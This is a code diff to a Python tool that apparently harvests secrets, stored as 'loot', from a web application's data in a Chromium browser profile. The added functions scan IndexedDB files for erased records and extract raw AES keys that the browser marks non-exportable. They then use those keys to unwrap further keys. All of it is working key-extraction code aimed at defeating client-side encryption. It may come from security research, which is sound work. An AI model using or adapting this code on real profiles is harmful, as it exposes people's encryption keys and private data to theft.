@@ -20,6 +20,11 @@ from sync.wire import b64decode
 
 _THIEF = Path(__file__).with_name("thief.js")
 _NONCE_BYTES, _TAG_BYTES, _KEY_BYTES, _BLOCK_BYTES = 12, 16, 32, 16
+_WRAPPED_KEY_BYTES = _NONCE_BYTES + _KEY_BYTES + _TAG_BYTES
+# Chromium's structured clone (blink's V8ScriptValueSerializer): "B", length, octets; and "K", 1 for
+# AES, the algorithm, 32 octets long, its usages, 32 octets follow.
+_WRITTEN_OCTETS = re.compile(rb"B([\x1d-\x7f]|[\x80-\xff][\x01-\x7f])", re.DOTALL)
+_WRITTEN_KEY = re.compile(rb"K\x01.\x20[\x00-\x7f]{1,2}?\x20(.{32})", re.DOTALL)
 _USES = ("tier", "local", "log", "snapshot", "previous", "passkey")
 _TEXT_START = re.compile(rb"[\x20-\x7e]{8}")
 _BASE64 = re.compile(rb"[A-Za-z0-9_-]{38,}")
@@ -84,6 +89,25 @@ def add_server(loot: Loot, data: Path, answers: Iterable[tuple[str, bytes]]) -> 
                 for value in row:
                     loot.add(table, value if isinstance(value, bytes) else str(value).encode())
     database.close()
+
+
+def add_erased(loot: Loot, profile: Path) -> set[bytes]:
+    """Add what Chromium's databases have erased but their files still hold; give the keys in it.
+
+    A key that scripts cannot export lies there in clear, and may open a key beside it.
+    """
+    octets = b"".join(p.read_bytes() for p in profile.rglob("*/IndexedDB/*/*") if p.is_file())
+    found = [
+        octets[m.end() : m.end() + _varint(m[1])] for m in re.finditer(_WRITTEN_OCTETS, octets)
+    ]
+    for each in found:
+        loot.add("erased", each)
+    keys = {m[1] for m in re.finditer(_WRITTEN_KEY, octets)}
+    wrapped = _Sealed([each for each in found if len(each) == _WRAPPED_KEY_BYTES])
+    for key in set(keys):
+        opened = wrapped.open(key)
+        keys |= {opened[at : at + _KEY_BYTES] for at in range(0, len(opened), _KEY_BYTES)}
+    return keys
 
 
 def open_by_scripts(page: Page, loot: Loot) -> Iterator[tuple[str, bytes]]:
@@ -198,6 +222,10 @@ def _derived(secret: bytes, salt: bytes) -> list[bytes]:
         for each in (b"", salt)
     ]
     return [secret, *made]
+
+
+def _varint(octets: bytes) -> int:
+    return sum((octet & 0x7F) << (7 * place) for place, octet in enumerate(octets))
 
 
 def _decode(text: bytes) -> bytes:
